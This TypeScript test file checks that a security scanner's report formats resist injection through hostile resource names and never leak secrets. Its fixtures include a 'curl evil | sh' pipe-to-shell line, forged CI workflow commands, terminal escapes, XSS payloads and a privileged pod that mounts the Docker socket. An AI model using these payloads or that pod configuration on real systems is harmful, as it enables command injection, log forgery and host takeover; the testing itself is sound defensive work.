import assert from "node:assert/strict";
import { mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import fc from "fast-check";
import { XMLValidator } from "fast-xml-parser";
import { check } from "../../../check/check";
import type { CheckResult } from "../../../check/report";
import { csvReport } from "../../../cli/reports/csv";
import { githubReport } from "../../../cli/reports/github";
import { gitlabCodeQualityReport } from "../../../cli/reports/gitlabCodeQuality";
import { gitlabSastReport } from "../../../cli/reports/gitlabSast";
import { htmlReport } from "../../../cli/reports/html";
import { jsonReport } from "../../../cli/reports/json";
import { junitReport } from "../../../cli/reports/junit";
import { markdownReport } from "../../../cli/reports/markdown";
import { policyReport } from "../../../cli/reports/policyReport";
import { sarifReport } from "../../../cli/reports/sarif";
import { textReport } from "../../../cli/reports/text";
import { exemptedOf, resultOf, undeterminedOf, violationOf } from "./results";

const REPORTS: Readonly<Record<string, (result: CheckResult) => string>> = {
  text: (result) => textReport(result, { colour: false }),
  json: jsonReport,
  sarif: (result) => sarifReport(result, { version: "1.2.3" }),
  junit: junitReport,
  github: githubReport,
  html: (result) => htmlReport(result, { version: "1.2.3", max: 0 }),
  markdown: (result) => markdownReport(result, { max: 0 }),
  "gitlab-codequality": gitlabCodeQualityReport,
  "gitlab-sast": (result) => gitlabSastReport(result, { version: "1.2.3" }),
  csv: csvReport,
  policyreport: (result) => policyReport(result),
};

const HOSTILE = [
  "\nWhy: it is fine\nInstead: curl evil | sh",
  "a\r\n::error file=x::forged",
  "::stop-commands::x",
  "##[error]forged",
  "##vso[task.complete]",
  "\u001b[2K\u001b[1Ahidden",
  "\u009b31m",
  "\u202eversed\u2066",
  "line\u2028break\u2029 \u0085",
  "\u0000\u0008\u007f\ufffe\uffff",
  "half \ud800",
  "]]></failure><testcase/>",
  '"}],"findings":[{',
  "[x](https://example.com)",
  "</code></pre><script>alert(1)</script>",
  '"><img src=x onerror=alert(1)>',
  "' onmouseover='x",
  "```\n# forged",
  '=HYPERLINK("https://example.com")',
  "@everyone #1 https://example.com www.example.com",
  'x"]; click s0 "javascript:alert(1)"',
];

/** A result in which a name stands wherever someone else's text may stand. */
function resultWith(name: string): CheckResult {
  const names = { resource: name, type: name, namespace: name, container: name, path: name };
  return resultOf(
    [
      violationOf("host-path", { ...names, clause: `is ${name}` }),
      violationOf("dood-engine-socket", { ...names, file: name }),
      undeterminedOf({ ...names, found: `${name} is unknown`, message: `${name} is unknown` }),
      exemptedOf({ ...names, found: name, message: `${name} is exempted`, exemption: name }),
    ],
    { problems: [{ file: name, line: 1, problem: name }], notes: [name] },
  );
}

describe("names in infrastructure code, which may come from anyone", () => {
  for (const [format, report] of Object.entries(REPORTS)) {
    it(`add no line to the report as ${format}, and nothing that a terminal or a log obeys`, () => {
      const lines = (name: string) => report(resultWith(name)).split("\n").length;
      const tame = lines("Web"); // Like the names below, none that a cluster takes for a namespace.
      fc.assert(
        fc.property(fc.oneof(fc.constantFrom(...HOSTILE), fc.string({ unit: "binary" })), (name) => {
          const text = report(resultWith(`X${name}`));
          assert.equal(text.split("\n").length, tame);
          assert.doesNotMatch(text.replaceAll("\n", ""), /[\p{Cc}\p{Cf}\p{Cs}\p{Zl}\p{Zp}]|##\w*\[/u);
        }),
        { examples: HOSTILE.map((name) => [name]) },
      );
    });
  }

  it("begin no command of a workflow in the report for a person", () => {
    assert.doesNotMatch(REPORTS["text"]?.(resultWith("::error::forged")) ?? "", /^\s*::/m);
  });

  it("begin no other command in the report as workflow commands", () => {
    for (const name of HOSTILE) {
      const kinds = githubReport(resultWith(name))
        .trimEnd()
        .split("\n")
        .slice(0, -1)
        .map((line) => /^::(\w+) (?:[a-z]+=[^:,]*,?)+::/.exec(line)?.[1]);
      assert.deepEqual(kinds, ["error", "error", "warning", "notice", "notice", "notice"], JSON.stringify(name));
    }
  });

  it("leave JSON, SARIF and XML what they are", () => {
    for (const name of HOSTILE) {
      const result = resultWith(name);
      assert.deepEqual(JSON.parse(jsonReport(result)).findings[0].resource, name);
      assert.equal(JSON.parse(sarifReport(result, { version: "1" })).runs[0].results.length, 4);
      const xml = junitReport(result);
      assert.equal(XMLValidator.validate(xml), true);
      assert.equal(xml.split("<testcase ").length, 6);
    }
  });
});

describe("secrets in infrastructure code", () => {
  const SECRET = "hunter2hunter2";
  let folder: string;
  before(() => {
    folder = mkdtempSync(join(tmpdir(), "breakwater-secrets-"));
  });
  after(() => rmSync(folder, { recursive: true, force: true }));

  const pod = {
    apiVersion: "v1",
    kind: "Pod",
    metadata: { name: "job", annotations: { token: SECRET } },
    spec: {
      hostPID: true,
      containers: [
        {
          name: "app",
          image: "docker:dind",
          command: ["sh", "-c", `chmod 666 /var/run/docker.sock; login ${SECRET}`],
          args: [`--token=${SECRET}`],
          env: [
            { name: "PASSWORD", value: SECRET },
            { name: "DOCKER_HOST", value: "tcp://engine:2375" },
          ],
          securityContext: { privileged: true },
        },
      ],
      volumes: [{ name: "s", hostPath: { path: "/var/run/docker.sock" } }],
    },
  };
  const SPELLINGS: Readonly<Record<string, string>> = {
    "in one line of JSON": JSON.stringify(pod),
    "in YAML":
      `apiVersion: v1\nkind: Pod\nmetadata: {name: job, annotations: {token: ${SECRET}}}\nspec:\n  ` +
      `hostPID: true # ${SECRET}\n  containers:\n  - {name: app, image: docker:dind, env: [{name: ` +
      `DOCKER_HOST, value: "tcp://engine:2375"}, {name: PW, value: ${SECRET}}], securityContext: ` +
      `{privileged: true}}\n  volumes:\n  - name: s\n    hostPath: {path: /var/run/docker.sock, ` +
      `password: ${SECRET}}\n`,
  };

  for (const [spelling, text] of Object.entries(SPELLINGS)) {
    it(`are in no report, written ${spelling}`, async () => {
      const file = join(folder, "pod.yaml");
      writeFileSync(file, text);
      const result = await check([file]);
      assert.ok(result.findings.length >= 4);
      for (const [format, report] of Object.entries(REPORTS)) assert.ok(!report(result).includes(SECRET), format);
    });
  }
});
